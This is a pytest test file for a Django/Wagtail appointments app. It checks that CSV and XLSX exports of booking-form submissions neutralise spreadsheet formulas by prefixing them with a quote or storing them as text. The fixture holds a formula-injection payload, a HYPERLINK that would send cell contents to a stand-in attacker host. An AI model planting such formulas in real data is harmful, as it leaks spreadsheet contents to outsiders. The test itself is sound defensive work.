"""The export of requests never hands a spreadsheet a formula."""

import csv
import io

from django.urls import reverse

from wagtail.contrib.forms.models import FormSubmission

import pytest
from openpyxl import load_workbook

from appointments.views import neutralise_formula

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def hostile_request(booking_page):
    return FormSubmission.objects.create(
        page=booking_page,
        form_data={
            "name": HOSTILE,
            "how_should_we_contact_you": "+1 503 555 0142",
            "preferred_days_and_times": "@SUM(1+1)",
            "message": "-2+3",
        },
    )


def test_the_csv_export_neutralises_formulas(coordinator, client, booking_page, hostile_request):
    client.force_login(coordinator)
    url = reverse("wagtailforms:list_submissions", args=[booking_page.pk]) + "?export=csv"
    response = client.get(url)
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    (row,) = rows
    assert row["Name"] == "'" + HOSTILE
    assert row["How should we contact you?"] == "'+1 503 555 0142"
    assert row["Preferred days and times"] == "'@SUM(1+1)"
    assert row["Message"] == "'-2+3"


def test_the_xlsx_export_holds_text_not_formulas(coordinator, client, booking_page, hostile_request):
    client.force_login(coordinator)
    url = reverse("wagtailforms:list_submissions", args=[booking_page.pk]) + "?export=xlsx"
    response = client.get(url)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=headings.index("Name") + 1)
    assert name.value == HOSTILE and name.data_type == "s"


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Avery", "Avery"),
        ("a=b", "a=b"),
        (None, None),
    ],
)
def test_neutralise_formula(value, exported):
    assert neutralise_formula(value) == exported
